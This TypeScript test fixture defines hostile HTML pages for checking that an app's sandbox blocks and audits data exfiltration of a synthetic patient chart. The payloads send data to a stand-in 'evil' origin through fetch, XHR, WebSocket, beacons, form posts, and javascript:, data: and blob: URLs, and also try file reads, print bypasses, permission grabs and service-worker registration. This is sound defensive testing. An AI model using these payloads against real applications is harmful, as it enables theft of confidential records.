// One real hostile page per attack. Each tries to carry something out of the approved
// app: to an unapproved origin (`evil`), to disk, to paper, to another program, or to a
// device it has no permission for. Pages run their attack on load and tell the app origin
// (allowed) what they observed, e.g. `granted`, `printed`, `proceeded`.
import type { AuditEventInput } from '../../common/audit/auditSink';

/** How "blocked" is measured for a scenario; every listed check must hold. */
export type Evidence =
  /** Nothing of the scenario reached the unapproved origin. */
  | { kind: 'network' }
  /** Every download the page began was refused. */
  | { kind: 'no-download' }
  /** The page is still the scenario page afterwards. */
  | { kind: 'stays' }
  /** The page never observed this outcome of its own attempt. */
  | { kind: 'never-observed'; outcome: string };

export interface ScenarioUrls {
  /** A URL on the unapproved origin that records the hit under the scenario's id. */
  evil: string;
  evilOrigin: string;
  appOrigin: string;
}

export interface Scenario {
  id: string;
  page(urls: ScenarioUrls): string;
  evidence: readonly Evidence[];
  /** The audit event that proves this attempt was recorded. */
  audited(event: AuditEventInput, urls: ScenarioUrls): boolean;
}

const html = (body: string) => `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>hostile</title></head><body><h1>Synthetic chart SYN-0001</h1>${body}</body></html>`;
const script = (code: string) => html(`<script>${code}</script>`);
/** Page-side helper: tell the app origin what the attempt achieved. */
const tell = (id: string) => `const tell = (outcome) => fetch('/result/${id}/' + outcome);`;
/** Page-side helper: report a navigation nobody cancelled. */
const watchNavigation = `navigation.addEventListener('navigate', (e) => { if (!e.defaultPrevented) tell('proceeded'); });`;

const NETWORK: readonly Evidence[] = [{ kind: 'network' }];
const namesEvil = (e: AuditEventInput, { evilOrigin }: ScenarioUrls) => e.origin === evilOrigin || e.origin === evilOrigin.replace('http:', 'ws:');
const namesScheme = (scheme: string) => (e: AuditEventInput) => e.type === 'navigation.blocked' && e.origin === scheme;
const permission = (reason: string) => (e: AuditEventInput) => e.type === 'permission.denied' && e.reason === reason;

/** The page asks for something and reports `granted` or `denied`. */
function permissionScenario(id: string, reason: string, ask: string): Scenario {
  return {
    id,
    page: () => script(`${tell(id)} ${ask}`),
    evidence: [{ kind: 'never-observed', outcome: 'granted' }],
    audited: permission(reason),
  };
}

export const SCENARIOS: readonly Scenario[] = [
  { id: 'top-navigation', page: ({ evil }) => script(`location.href = ${JSON.stringify(evil)} + '?mrn=SYN-0001';`), evidence: NETWORK, audited: namesEvil },
  { id: 'redirect', page: ({ appOrigin }) => script(`location.href = ${JSON.stringify(`${appOrigin}/redirect/redirect`)};`), evidence: NETWORK, audited: namesEvil },
  { id: 'iframe', page: ({ evil }) => html(`<iframe title="ad" src="${evil}"></iframe>`), evidence: NETWORK, audited: namesEvil },
  { id: 'window-open', page: ({ evil }) => script(`window.open(${JSON.stringify(evil)});`), evidence: NETWORK, audited: namesEvil },
  { id: 'target-blank', page: ({ evil }) => html(`<a id="l" target="_blank" href="${evil}">outside</a><script>document.getElementById('l').click();</script>`), evidence: NETWORK, audited: namesEvil },
  { id: 'form-post', page: ({ evil }) => html(`<form id="f" method="post" action="${evil}"><input name="mrn" value="SYN-0001"></form><script>document.getElementById('f').submit();</script>`), evidence: NETWORK, audited: namesEvil },
  { id: 'fetch', page: ({ evil }) => script(`fetch(${JSON.stringify(evil)}, { method: 'POST', body: 'SYN-0001', mode: 'no-cors' }).catch(() => {});`), evidence: NETWORK, audited: namesEvil },
  { id: 'xhr', page: ({ evil }) => script(`const x = new XMLHttpRequest(); x.open('POST', ${JSON.stringify(evil)}); x.send('SYN-0001');`), evidence: NETWORK, audited: namesEvil },
  { id: 'websocket', page: ({ evil }) => script(`try { new WebSocket(${JSON.stringify(evil.replace('http:', 'ws:'))}); } catch (e) {}`), evidence: NETWORK, audited: namesEvil },
  { id: 'send-beacon', page: ({ evil }) => script(`navigator.sendBeacon(${JSON.stringify(evil)}, 'SYN-0001');`), evidence: NETWORK, audited: namesEvil },
  { id: 'image', page: ({ evil }) => script(`new Image().src = ${JSON.stringify(evil)} + '?d=SYN-0001';`), evidence: NETWORK, audited: namesEvil },
  { id: 'meta-refresh', page: ({ evil }) => html(`<meta http-equiv="refresh" content="0;url=${evil}">`), evidence: NETWORK, audited: namesEvil },
  {
    id: 'javascript-url',
    page: ({ evil }) => html(`<a id="l" href="javascript:location.href='${evil}?mrn=SYN-0001'">note link</a><script>document.getElementById('l').click();</script>`),
    evidence: [{ kind: 'network' }, { kind: 'stays' }],
    audited: namesScheme('javascript:'),
  },
  {
    id: 'data-url',
    page: ({ evil }) => {
      const payload = `<form action="${evil}" method="post"><input name="mrn" value="SYN-0001"></form><script>document.forms[0].submit()</script>`;
      return html(`<a id="l" href="data:text/html,${encodeURIComponent(payload)}">note link</a><script>document.getElementById('l').click();</script>`);
    },
    evidence: [{ kind: 'network' }, { kind: 'stays' }],
    audited: namesScheme('data:'),
  },
  {
    id: 'file-url',
    page: () => html(`<a id="l" href="file:///etc/hostname">note link</a><script>document.getElementById('l').click();</script>`),
    evidence: [{ kind: 'stays' }],
    audited: namesScheme('file:'),
  },
  {
    id: 'blob-url',
    page: ({ evil }) =>
      script(`${tell('blob-url')} ${watchNavigation}
        const page = new Blob(['<img src="${evil}?d=SYN-0001">'], { type: 'text/html' });
        location.href = URL.createObjectURL(page);`),
    evidence: [{ kind: 'network' }, { kind: 'stays' }, { kind: 'never-observed', outcome: 'proceeded' }],
    audited: namesScheme('blob:'),
  },
  {
    id: 'download-link',
    page: () => html(`<a id="l" href="/download/chart.pdf">chart PDF</a><script>document.getElementById('l').click();</script>`),
    evidence: [{ kind: 'no-download' }],
    audited: (e) => e.type === 'download.blocked',
  },
  {
    id: 'download-blob',
    page: () =>
      script(`const a = document.createElement('a');
        a.href = URL.createObjectURL(new Blob(['SYN-0001 synthetic chart'], { type: 'text/plain' }));
        a.download = 'chart-SYN-0001.txt'; document.body.append(a); a.click();`),
    evidence: [{ kind: 'no-download' }],
    audited: (e) => e.type === 'download.blocked',
  },
  {
    id: 'window-print',
    // The page's own print, and a fresh iframe's (a classic way to a pristine print()).
    page: () =>
      script(`${tell('window-print')}
        addEventListener('beforeprint', () => tell('printed'));
        window.print();
        const f = document.createElement('iframe'); document.body.append(f);
        f.contentWindow.addEventListener('beforeprint', () => tell('printed'));
        f.contentWindow.print();`),
    evidence: [{ kind: 'never-observed', outcome: 'printed' }],
    audited: (e) => e.type === 'print.blocked' && e.reason === 'window-print',
  },
  permissionScenario('permission-notification', 'permission-notifications', `Notification.requestPermission().then((r) => tell(r === 'granted' ? 'granted' : 'denied'));`),
  permissionScenario('permission-geolocation', 'permission-geolocation', `navigator.geolocation.getCurrentPosition(() => tell('granted'), () => tell('denied'));`),
  permissionScenario('permission-camera', 'permission-camera', `navigator.mediaDevices.getUserMedia({ video: true }).then(() => tell('granted'), () => tell('denied'));`),
  {
    // The guard refuses Clipboard API reads in the page itself, before any permission
    // request; the session's permission handler would refuse (and audit) it as well.
    ...permissionScenario('permission-clipboard-read', 'permission-clipboard-read', `navigator.clipboard.readText().then(() => tell('granted'), () => tell('denied'));`),
    audited: (e) => (e.type === 'clipboard.blocked' && e.reason === 'clipboard-api-read') || permission('permission-clipboard-read')(e),
  },
  permissionScenario('display-media', 'display-capture', `navigator.mediaDevices.getDisplayMedia({ video: true }).then(() => tell('granted'), () => tell('denied'));`),
  {
    id: 'external-protocol',
    page: () => html(`<a id="l" href="mailto:frontdesk@example.com?body=SYN-0001">email the front desk</a><script>${tell('external-protocol')} ${watchNavigation} document.getElementById('l').click();</script>`),
    evidence: [{ kind: 'stays' }, { kind: 'never-observed', outcome: 'proceeded' }],
    audited: namesScheme('mailto:'),
  },
  {
    id: 'upload-file-drop',
    // A file dropped on the page never reaches the page's own drop handler.
    page: () =>
      html(`<div id="zone" style="height:200px">drop a chart here</div><script>${tell('upload-file-drop')}
        document.getElementById('zone').addEventListener('drop', (e) => { if (e.dataTransfer.files.length > 0) tell('dropped-file'); });
        const data = new DataTransfer(); data.items.add(new File(['SYN-0001 chart'], 'chart.txt', { type: 'text/plain' }));
        document.getElementById('zone').dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true }));</script>`),
    evidence: [{ kind: 'never-observed', outcome: 'dropped-file' }],
    audited: (e) => e.type === 'upload.blocked' && e.reason === 'file-drop',
  },
  {
    // A PDF from the approved origin, opened as a document: in Chromium's viewer its Print
    // button would bypass the guard. With printing denied it must become a download
    // (refused here by the download rule) and be audited.
    id: 'pdf-viewer',
    page: () => script(`location.href = '/document/chart.pdf';`),
    evidence: [{ kind: 'no-download' }],
    audited: (e) => e.type === 'print.blocked' && e.reason === 'pdf-viewer',
  },
  {
    id: 'service-worker',
    page: ({ evilOrigin }) =>
      script(`${tell('service-worker')}
        navigator.serviceWorker.register(${JSON.stringify(`${evilOrigin}/hit/service-worker/sw.js`)}).then(() => tell('granted'), () => tell('denied'));`),
    evidence: [{ kind: 'network' }, { kind: 'never-observed', outcome: 'granted' }],
    audited: (e, urls) => e.type === 'request.blocked' && namesEvil(e, urls),
  },
];
